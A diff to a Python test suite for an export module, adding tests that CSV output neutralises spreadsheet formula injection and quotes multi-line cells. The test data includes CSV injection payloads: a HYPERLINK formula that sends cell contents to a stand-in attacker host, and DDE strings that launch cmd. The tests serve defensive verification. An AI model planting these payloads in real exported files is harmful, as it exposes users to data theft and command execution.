@@ -19,7 +19,14 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from engine.core.models import Category, Entry, SearchResult, Source
-from engine.output.export import FIELDS, ExportFormat, parse_format, render, result_rows
+from engine.output.export import (
+    FIELDS,
+    ExportFormat,
+    csv_cell_text,
+    parse_format,
+    render,
+    result_rows,
+)
 
 GOLDEN_DIR = Path(__file__).parent / "golden" / "export"
 UPDATE_GOLDEN = os.environ.get("UPDATE_GOLDEN") == "1"
@@ -184,7 +191,7 @@ def test_csv_round_trips_every_field() -> None:
         assert record["keywords"] == ", ".join(result.entry.keywords)
         assert record["stale"] == ("true" if result.stale else "false")
         for name in ("id", "category", "source", "filePath", "sectionTitle", "content"):
-            assert record[name] == expected[name]
+            assert csv_cell_text(record[name]) == expected[name]
 
 
 def test_xml_round_trips_every_field() -> None:
@@ -260,8 +267,9 @@ def test_machine_formats_round_trip_any_text(content: str, title: str, keyword: 
     assert json.loads(render([result], "json"))[0]["content"] == content
 
     (record,) = _csv_records(render([result], "csv"))
-    assert record["content"] == content
-    assert record["sectionTitle"] == title
+    assert csv_cell_text(record["content"]) == content
+    assert csv_cell_text(record["sectionTitle"]) == title
+    assert not record["content"].startswith(("=", "+", "-", "@", "\t", "\r"))
 
     root = ET.fromstring(render([result], "xml", query=content).encode("utf-8"))
     assert _xml_value(root.find("result/content")) == content
@@ -333,3 +341,40 @@ def test_empty_results_in_every_format() -> None:
     assert render([], "md", QUERY) == f'## Results for "{QUERY}"\n\n_No results._\n'
     root = ET.fromstring(render([], "xml", QUERY))
     assert (root.get("count"), root.get("query"), list(root)) == ("0", QUERY, [])
+
+
+@pytest.mark.parametrize(
+    ("content", "written"),
+    [
+        (
+            '=HYPERLINK("http://evil.example/?"&A1, "Click")',
+            '\'=HYPERLINK("http://evil.example/?"&A1, "Click")',
+        ),
+        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("'=already quoted", "''=already quoted"),
+        ("'quoted, not a formula", "'quoted, not a formula"),
+        ("a = b + c", "a = b + c"),
+    ],
+)
+def test_csv_neutralises_formula_cells(content: str, written: str) -> None:
+    result = _entry_result(content, section_title=content, keywords=("-flag", "ok"))
+
+    (record,) = _csv_records(render([result], "csv"))
+
+    assert record["content"] == record["sectionTitle"] == written
+    assert record["keywords"] == "'-flag, ok"
+    assert csv_cell_text(record["content"]) == content
+    assert record["score"] == "0.5"  # numbers are never prefixed
+
+
+def test_csv_multi_line_cells_are_quoted_per_rfc_4180() -> None:
+    content = 'first line\nsecond "quoted" line\r\nthird'
+    output = render([_entry_result(content)], "csv")
+
+    assert f'"{content.replace(chr(34), chr(34) * 2)}"' in output
+    (record,) = _csv_records(output)
+    assert record["content"] == content
